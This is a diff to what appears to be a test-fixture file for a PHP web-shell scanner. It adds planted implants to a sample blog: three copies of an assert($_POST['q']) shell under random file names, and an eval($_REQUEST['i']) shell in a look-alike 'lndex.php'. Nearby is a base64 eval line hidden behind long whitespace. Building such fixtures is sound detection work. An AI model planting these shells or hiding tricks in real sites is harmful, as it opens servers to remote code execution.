@@ -25,6 +25,12 @@ _PREPENDED: Final = f"{_PUBLIC}/images/.thumbs.php"
 
 # One payload in many files, before what stood there.
 INJECTED: Final = tuple(f"{blog.ROOT}/content/plugins/{name}/{name}.php" for name in blog.PLUGINS)
+COPIES: Final = (
+    f"{blog.ROOT}/admin/xk7q2v.php",
+    f"{blog.ROOT}/content/themes/harbour/images/m4w8xk.php",
+    f"{_PUBLIC}/css/q9t3zd.php",
+)
+_ALIKE: Final = f"{blog.ROOT}/lndex.php"
 _PAYLOAD: Final = base64.b64encode(b"echo 'this is never shown';").decode()
 _LINE: Final = f"<?php{' ' * 140}if ({_NEVER}) {{ eval(base64_decode('{_PAYLOAD}')); }} ?>"
 
@@ -96,9 +102,26 @@ IMPLANTS: Final = (
             "a line put before the code of a plug-in",
             "web-php-runs-decoded",
             _injection(path),
-            also=("web-php-hidden-line",),
+            also=("web-php-hidden-line", "crowd-shared-block"),
         )
         for path in INJECTED
+    ),
+    *(
+        Implant(
+            path,
+            "the same program under three names",
+            "web-php-runs-request",
+            _put(path, _guarded("assert($_POST['q']);")),
+            also=("crowd-same-content",),
+        )
+        for path in COPIES
+    ),
+    Implant(
+        _ALIKE,
+        "a program whose name reads as index.php",
+        "web-php-runs-request",
+        _put(_ALIKE, _guarded("eval($_REQUEST['i']);")),
+        also=("crowd-look-alike-name",),
     ),
     Implant(
         _ICON,
